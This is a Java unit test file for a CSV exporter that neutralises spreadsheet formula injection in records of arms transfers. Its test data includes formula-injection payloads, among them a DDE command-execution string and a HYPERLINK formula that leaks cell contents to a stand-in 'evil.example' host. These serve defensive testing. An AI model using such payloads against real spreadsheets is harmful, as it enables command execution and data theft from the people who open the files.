package org.transferwatch.exchange;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.math.BigDecimal;
import java.nio.charset.StandardCharsets;
import java.time.LocalDate;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;
import org.transferwatch.transfer.AdmiraltyGrade;
import org.transferwatch.transfer.Confidence;
import org.transferwatch.transfer.EvidenceSummary;
import org.transferwatch.transfer.Period;
import org.transferwatch.transfer.Quantity;
import org.transferwatch.transfer.ReviewState;
import org.transferwatch.transfer.Stance;
import org.transferwatch.transfer.TransferDraft;
import org.transferwatch.transfer.TransferExport;
import org.transferwatch.transfer.TransferKind;
import org.transferwatch.transfer.TransferStatus;

class TransferCsvTest {

    @ParameterizedTest
    @ValueSource(strings = { "=SUM(A1:A9)", "+31 20 555", "-2+3", "@cmd", "\tindented", "\rreturn", "\0nul",
            " =1+1", "  @SUM(1)", "\n=cmd|' /C calc'!A0", "\u00a0=1", "\u3000=1", "\uff1d1+1", "\uff0b1", "\uff0d1",
            "\uff20SUM(1)", "=HYPERLINK(\"https://evil.example/?\"&A1,\"Click\")", "'=1+1", "-" })
    void a_cell_starting_with_a_formula_trigger_gets_a_leading_quote(String value) {
        assertThat(TransferCsv.neutralise(value)).isEqualTo("'" + value);
        assertThat(TransferCsv.restore(TransferCsv.neutralise(value))).isEqualTo(value);
    }

    @ParameterizedTest
    @ValueSource(strings = { "Artillery shells", "1000000.00", "2022-10-01", "B2", "", "North Korea → Russia", "a=b",
            "'quoted'", "x-ray" })
    void normal_text_is_left_untouched(String value) {
        assertThat(TransferCsv.neutralise(value)).isEqualTo(value);
        assertThat(TransferCsv.restore(value)).isEqualTo(value);
    }

    @ParameterizedTest
    @ValueSource(strings = { "'=x", "''+1", "'", "''" })
    void values_that_already_start_with_quotes_survive_the_round_trip(String value) {
        assertThat(TransferCsv.restore(TransferCsv.neutralise(value))).isEqualTo(value);
    }

    @Test
    void the_file_starts_with_a_byte_order_mark_and_the_header_and_ends_every_record_with_crlf() throws IOException {
        var csv = write(export("Shells", null));
        assertThat(csv).startsWith("\uFEFFnatural_key,supplier_code,supplier,recipient_code,recipient,kind,category,");
        assertThat(csv.split("\r\n", -1)).hasSize(3).endsWith("");
        assertThat(csv.replace("\r\n", "")).doesNotContain("\n").doesNotContain("\r");
    }

    @Test
    void quotes_commas_and_line_breaks_are_quoted_as_rfc_4180_says() throws IOException {
        var csv = write(export("Shells, \"152mm\"", "First line\nsecond line"));
        assertThat(csv).contains(",\"Shells, \"\"152mm\"\"\",").contains(",\"First line\nsecond line\",");
    }

    @Test
    void formula_triggers_are_neutralised_in_the_written_file() throws IOException {
        var csv = write(export("=HYPERLINK(\"http://evil\")", "-10 units @ night"));
        assertThat(csv).contains(",\"'=HYPERLINK(\"\"http://evil\"\")\",").contains(",'-10 units @ night,");
    }

    private static String write(TransferExport transfer) throws IOException {
        var out = new ByteArrayOutputStream();
        try (var writer = new TransferCsvWriter(out)) {
            writer.write(transfer);
        }
        return out.toString(StandardCharsets.UTF_8);
    }

    private static TransferExport export(String item, String notes) {
        var draft = new TransferDraft("PRK", "RUS", TransferKind.ARMS, "ML3", item, null,
                new Quantity(new BigDecimal("1000000.00"), null, "shells", true), null, TransferStatus.DELIVERED,
                Period.quarter(2022, 4), LocalDate.of(2023, 8, 30), null, notes, Confidence.MODERATE);
        return new TransferExport(1, "demo:1", draft, "North Korea", "Russia", ReviewState.PUBLISHED,
                new EvidenceSummary(1, 0, "B2"), new TransferExport.BestClaim(7, "Yonhap", null, "A quote.",
                        Stance.SUPPORTS, AdmiraltyGrade.parse("B2")));
    }

}
